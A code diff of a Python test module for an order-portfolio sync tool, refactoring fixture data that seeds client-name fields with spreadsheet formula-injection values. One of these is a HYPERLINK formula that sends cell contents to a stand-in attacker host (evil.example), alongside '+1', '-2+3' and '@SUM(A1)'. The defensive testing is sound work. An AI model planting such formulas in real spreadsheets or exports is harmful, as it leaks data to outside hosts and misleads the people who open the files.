@@ -29,44 +29,14 @@ from carteira_gui.domain.errors import CarteiraError, NotFound
 from carteira_gui.domain.parsing import parse_state_document
 from carteira_gui.services.sync import apply_plan, compute_plan
 
+from ..worked_example import worked_source, worked_state
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clique")'
 HOSTILE = (HYPERLINK, "+1", "-2+3", "@SUM(A1)")
 
 # The worked example of DOMAIN.md, with client names an attacker could have typed into Odoo.
-STATE: dict[str, Any] = {
-    "carteira": [
-        {"num_pedido": "PED001", "cod_produto": "PROD001", "qtd_saldo": 100, "cliente": HYPERLINK},
-        {"num_pedido": "PED001", "cod_produto": "PROD002", "qtd_saldo": 50, "cliente": "+1"},
-        {"num_pedido": "PED002", "cod_produto": "PROD001", "qtd_saldo": 200, "cliente": "Distribuidora São João"},
-    ],
-    "pre_separacoes": [
-        {
-            "id": 7,
-            "num_pedido": "PED001",
-            "cod_produto": "PROD001",
-            "qtd": 30,
-            "criado_em": "2026-11-01T10:00:00+00:00",
-            "tipo_envio": "parcial",
-        }
-    ],
-    "separacoes": [
-        {
-            "id": 3,
-            "lote": "LOTE-1",
-            "num_pedido": "PED002",
-            "cod_produto": "PROD001",
-            "qtd": 100,
-            "status": "COTADO",
-            "criado_em": "2026-11-02T09:00:00+00:00",
-            "tipo_envio": "parcial",
-        }
-    ],
-}
-WORKED_SOURCE: list[dict[str, Any]] = [
-    {"num_pedido": "PED001", "cod_produto": "PROD001", "qtd_saldo": 80},
-    {"num_pedido": "PED001", "cod_produto": "PROD002", "qtd_saldo": 70},
-    {"num_pedido": "PED003", "cod_produto": "PROD001", "qtd_saldo": 30, "cliente": "-2+3"},
-]
+STATE: dict[str, Any] = worked_state(HYPERLINK, "+1", "Distribuidora São João")
+WORKED_SOURCE: list[dict[str, Any]] = worked_source("-2+3")
 # A second sync: a fractional increase and an ALTERADO line whose new client is hostile.
 SECOND_SOURCE: list[dict[str, Any]] = [
     {"num_pedido": "PED001", "cod_produto": "PROD001", "qtd_saldo": "1234.5"},
